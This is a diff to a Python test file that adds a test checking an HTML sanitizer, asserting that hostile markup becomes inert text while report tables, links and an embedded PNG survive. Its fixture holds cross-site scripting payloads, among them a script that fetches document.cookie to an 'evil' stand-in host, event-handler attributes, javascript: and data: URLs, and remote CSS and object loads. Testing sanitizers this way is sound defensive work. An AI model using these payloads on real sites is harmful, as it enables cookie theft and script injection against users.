@@ -372,6 +372,58 @@ def test_sanitize_escapes_what_could_run():
     assert "<b>A&amp;B</b>" in clean
 
 
+_PNG = "data:image/png;base64,iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mNk+M9QDwADhgGAWjR9awAAAABJRU5ErkJggg=="
+
+
+def _live(html: str):
+    """What a browser would act on in ``html``: the elements, with their attributes."""
+    from bs4 import BeautifulSoup
+
+    return BeautifulSoup(html, "html.parser", multi_valued_attributes=None).find_all(True)
+
+
+def test_sanitize_leaves_hostile_markup_inert_and_report_markup_whole():
+    hostile = ('<script>fetch("https://evil/?c=" + document.cookie)</script>'
+               '<img src="x" onerror="alert(1)"><p onmouseover="alert(2)">p</p>'
+               '<a href="javascript:alert(3)">j1</a><a href=" JaVaScRiPt:alert(4)">j2</a>'
+               '<a href="data:text/html,&lt;script&gt;alert(5)&lt;/script&gt;">d</a>'
+               '<div style="position:fixed; top:0; left:0; width:100%; behavior: url(x.htc); color: red">over</div>'
+               '<span style="background-image: url(https://evil/t.png); cursor: url(https://evil/c.cur)">s</span>'
+               '<svg onload="alert(6)"></svg><object data="https://evil/x.swf"></object><!-- <script>x()</script> -->')
+    allowed = ('<h2 id="res">结果 · Result</h2><h3>Detail</h3>'
+               '<table class="dataframe" border="1"><thead><tr><th>客户</th><th colspan="2">A&amp;B</th></tr></thead>'
+               '<tbody><tr><td style="text-align: right; color: red">1</td><td>2</td><td>3</td></tr></tbody></table>'
+               '<p><a href="https://example.org/a?x=1&amp;y=2">https</a> <a href="http://example.org">http</a> '
+               '<a href="#res">here</a></p>'
+               f'<img src="{_PNG}" alt="chart" width="10">')
+    clean = sanitize_html(hostile + allowed)
+    elements = _live(clean)
+    names = {e.name for e in elements}
+    assert not names & {"script", "svg", "object", "iframe", "style"}, names
+    for e in elements:
+        assert not [a for a in e.attrs if a.lower().startswith("on")], e
+        for attr in ("href", "src"):
+            url = e.get(attr, "").strip().lower()
+            assert not url.startswith(("javascript:", "data:text")), e
+        style = e.get("style", "").lower()
+        assert not re.search(r"position|behavior|url\(|top|left|background-image|cursor", style), e
+    # shown, not run: the disallowed markup is text
+    assert "&lt;script&gt;fetch(" in clean and "&lt;svg" in clean and "&lt;object" in clean
+    assert "<!--" not in clean and "x()" not in clean  # comments go
+    div = next(e for e in elements if e.name == "div")
+    assert div.get_text() == "over" and div["style"] == "width:100%;color:red"
+    # what a report uses survives, unchanged in meaning (attribute order and spaces in a style aside)
+    assert _shape(allowed) == _shape(clean)[-len(_shape(allowed)):]
+    assert _shape(sanitize_html(allowed)) == _shape(allowed)
+    assert "结果 · Result" in clean and "A&amp;B" in clean and _PNG in clean
+
+
+def _shape(html: str) -> list:
+    """The elements of ``html`` in order: name, attributes (styles without spaces), own text."""
+    return [(e.name, {k: v.replace(" ", "") if k == "style" else v for k, v in e.attrs.items()},
+             "".join(e.find_all(string=True, recursive=False))) for e in _live(html)]
+
+
 def test_offline_check():
     check_offline('<a href="https://example.org">a link is fine</a><img src="data:image/png;base64,AAAA">')
     for bad in ('<script src="https://cdn.jsdelivr.net/npm/require.js"></script>',
